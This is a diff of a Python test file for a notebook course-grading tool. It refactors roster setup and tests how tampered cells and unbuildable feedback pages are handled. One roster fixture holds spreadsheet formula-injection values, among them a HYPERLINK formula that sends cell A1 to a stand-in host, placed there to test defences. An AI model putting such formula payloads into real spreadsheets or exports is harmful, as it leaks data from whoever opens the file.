@@ -14,6 +14,7 @@ import html
 import json
 import os
 import re
+import shutil
 import socket
 import subprocess
 import sys
@@ -178,6 +179,19 @@ def cli(course, *args, ok=True):
     return proc
 
 
+def released_course(tmp, roster_rows: str):
+    """Quiz 01 in a new course under ``tmp`` with the roster rows imported and released:
+    (course, blank release, source notebook, release with the model answers typed in)."""
+    course = make_course(tmp, [QUIZ])
+    roster = tmp / "roster.csv"
+    roster.write_text("id,first_name,last_name,email\n" + roster_rows)
+    cli(course, "students", str(roster))
+    cli(course, "release", QUIZ, "--no-exchange")
+    blank = read_nb(course / "release" / QUIZ / f"{QUIZ}.ipynb")
+    source_nb = read_nb(course / "source" / QUIZ / f"{QUIZ}.ipynb")
+    return course, blank, source_nb, with_answers(blank, key_answers(source_nb))
+
+
 @pytest.fixture(scope="module")
 def batch(tmp_path_factory):
     import psutil
@@ -188,18 +202,11 @@ def batch(tmp_path_factory):
         exchange = tmp / "exchange"
         (exchange / "venous-course" / "outbound" / QUIZ).mkdir(parents=True)
         mp.setenv("VENOUS_EXCHANGE_ROOT", str(exchange))
-        course = make_course(tmp, [QUIZ])
-        roster = tmp / "roster.csv"
-        roster.write_text(
-            "id,first_name,last_name,email\n"
+        course, blank, source_nb, key = released_course(
+            tmp,
             'good,"=HYPERLINK(""http://x.example/""&A1)",Good,g@example.org\n'
-            "partial,+Part,@ial,p@example.org\n"
+            "partial,+Part,@ial,p@example.org\n",
         )
-        cli(course, "students", str(roster))
-        cli(course, "release", QUIZ, "--no-exchange")
-        blank = read_nb(course / "release" / QUIZ / f"{QUIZ}.ipynb")
-        source_nb = read_nb(course / "source" / QUIZ / f"{QUIZ}.ipynb")
-        key = with_answers(blank, key_answers(source_nb))
 
         server, hits, stop = _canary_server()
         canary = {"port": str(server.getsockname()[1]), "trace": str(tmp / "trace")}
@@ -391,11 +398,12 @@ def test_tampered_test_cells_are_restored_and_flagged(batch):
 
 def test_the_set_up_cell_cannot_change_grading(batch):
     """The locked form-checks cell only changes how the student's own kernel shows errors:
-    grading never runs it, restores it from the gradebook and tells the instructor."""
+    grading never runs it, restores it from the gradebook and notes it for the instructor."""
     course, rows = batch["course"], batch["rows"]
     assert auto_score(course, "setupcell") == FULL_AUTO  # the answers, not the cell, score
-    assert rows["setupcell"].status == "needs manual grading"
-    assert "read-only cell altered" in rows["setupcell"].reason
+    assert rows["setupcell"].status == "graded"  # its empty teach-back scores 0 by itself
+    notes = rows["setupcell"].notes
+    assert any("read-only cell altered" in n and "form-checks" in n for n in notes), notes
     graded = read_nb(course / "autograded" / "setupcell" / QUIZ / f"{QUIZ}.ipynb")
     released = read_nb(course / "release" / QUIZ / f"{QUIZ}.ipynb")
     assert cell_by_id(graded, "form-checks").source == cell_by_id(released, "form-checks").source
@@ -498,19 +506,12 @@ def classroom(tmp_path_factory):
         exchange = tmp / "exchange"
         exchange.mkdir()
         mp.setenv("VENOUS_EXCHANGE_ROOT", str(exchange))
-        course = make_course(tmp, [QUIZ])
-        roster = tmp / "roster.csv"
-        roster.write_text(
-            "id,first_name,last_name,email\n"
+        course, blank, source_nb, key = released_course(
+            tmp,
             "good,Good,Student,g@example.org\n"
             "hostile,Hostile,Student,h@example.org\n"
-            "commented,Commented,Student,c@example.org\n"
+            "commented,Commented,Student,c@example.org\n",
         )
-        cli(course, "students", str(roster))
-        cli(course, "release", QUIZ, "--no-exchange")
-        blank = read_nb(course / "release" / QUIZ / f"{QUIZ}.ipynb")
-        source_nb = read_nb(course / "source" / QUIZ / f"{QUIZ}.ipynb")
-        key = with_answers(blank, key_answers(source_nb))
 
         def hand_in(student, nb):
             submit_file(course, student, QUIZ, nb)
@@ -543,6 +544,8 @@ def classroom(tmp_path_factory):
             course, "grade", QUIZ, "--student", "commented", "--item", "q10-teachback",
             "--score", "0", "--comment", f"The key was {hidden_line}",
         )  # fmt: skip
+        # an autograded folder the gradebook does not know: nbgrader fails on it alone
+        shutil.copytree(course / "autograded" / "good", course / "autograded" / "ghost")
         fed = cli(course, "feedback", QUIZ)
         returned = cli(course, "return", QUIZ)
         yield {
@@ -588,11 +591,13 @@ def test_a_leaking_page_is_refused_for_that_student_only_and_named(classroom):
         err = classroom[step].stderr
         assert f"warning: no feedback returned to commented for {QUIZ}: the page would show" in err
         assert hidden_line[:40] in err and "good" not in err and "hostile" not in err
+        assert f"no feedback returned to ghost for {QUIZ}: nbgrader could not" in err
     assert not (course / "feedback" / "commented" / QUIZ / f"{QUIZ}.html").exists()
     kept = course / "reports" / f"{QUIZ}-feedback-refused" / "commented" / f"{QUIZ}.html"
     assert hidden_line in html.unescape(kept.read_text(encoding="utf-8"))
     refused = json.loads(workflow.refused_path(course, QUIZ).read_text(encoding="utf-8"))
-    assert list(refused) == ["commented"]
+    assert sorted(refused) == ["commented", "ghost"]
+    assert refused["ghost"].startswith("nbgrader could not build the page")
 
 
 def test_feedback_leak_check_judges_only_course_text():
